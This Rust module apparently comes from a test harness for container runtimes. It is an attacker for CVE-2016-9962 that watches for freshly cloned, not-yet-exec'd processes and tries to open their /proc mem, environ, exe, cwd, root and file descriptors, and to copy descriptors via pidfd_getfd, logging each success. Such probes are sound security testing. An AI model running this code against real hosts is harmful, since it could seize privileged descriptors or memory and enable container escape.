//! The attacker of CVE-2016-9962: waits for newcomers in its pid namespace that have not executed
//! their program yet, and reaches for all that the runtime still holds in them.

use crate::act::Done;
use rustix::fs::{Mode, OFlags, open};
use rustix::process::{Pid, PidfdFlags, PidfdGetfdFlags, pidfd_getfd, pidfd_open};
use std::collections::BTreeSet;
use std::fs::{self, File, OpenOptions};
use std::io::Write as _;

/// `PF_FORKNOEXEC` of proc_pid_stat(5): cloned, and no execve since.
const BEFORE_EXEC: u64 = 0x40;

/// Writes `saw PID` once for each newcomer that it met before its execve, and `GOT PID WHAT` for
/// whatever it could take from one that was still before its execve afterwards.
pub(crate) fn newcomers(log: &str) -> Done {
    let Ok(mut log) = OpenOptions::new().create(true).append(true).open(log) else {
        return Done::Code(1);
    };
    let own = std::process::id();
    let mut seen = BTreeSet::new();
    loop {
        for pid in crate::watch::pids().filter(|pid| *pid != own) {
            while is_before_exec(pid) {
                if seen.insert(pid) {
                    let _ = writeln!(log, "saw {pid}");
                }
                attack(pid, &mut log);
            }
        }
    }
}

fn is_before_exec(pid: u32) -> bool {
    let Ok(text) = fs::read_to_string(format!("/proc/{pid}/stat")) else {
        return false;
    };
    // The name is in parentheses and may hold anything; the flags are the seventh field after it.
    let flags = text
        .rsplit_once(") ")
        .and_then(|(_, rest)| rest.split(' ').nth(6)?.parse::<u64>().ok());
    flags.is_some_and(|flags| flags & BEFORE_EXEC != 0)
}

fn attack(pid: u32, log: &mut File) {
    let mut took = |what: &str| {
        if is_before_exec(pid) {
            let _ = writeln!(log, "GOT {pid} {what}");
        }
    };
    for (name, flags) in [
        ("mem", OFlags::RDWR),
        ("mem", OFlags::RDONLY),
        ("environ", OFlags::RDONLY),
        ("exe", OFlags::RDONLY),
        ("cwd", OFlags::PATH),
        ("root", OFlags::PATH),
    ] {
        let path = format!("/proc/{pid}/{name}");
        if open(path.as_str(), flags | OFlags::CLOEXEC, Mode::empty()).is_ok() {
            took(name);
        }
    }
    let list = fs::read_dir(format!("/proc/{pid}/fd"));
    for entry in list.into_iter().flatten().flatten() {
        let flags = OFlags::RDONLY | OFlags::CLOEXEC | OFlags::NONBLOCK | OFlags::NOCTTY;
        if open(entry.path(), flags, Mode::empty()).is_ok() {
            let target = fs::read_link(entry.path()).unwrap_or_default();
            took(&format!("{} {}", entry.path().display(), target.display()));
        }
    }
    copy_descriptors(pid, took);
}

fn copy_descriptors(pid: u32, mut took: impl FnMut(&str)) {
    let handle = i32::try_from(pid)
        .ok()
        .and_then(Pid::from_raw)
        .and_then(|pid| pidfd_open(pid, PidfdFlags::empty()).ok());
    let Some(handle) = handle else { return };
    for number in 0..16 {
        if pidfd_getfd(&handle, number, PidfdGetfdFlags::empty()).is_ok() {
            took(&format!("pidfd_getfd {number}"));
        }
    }
}
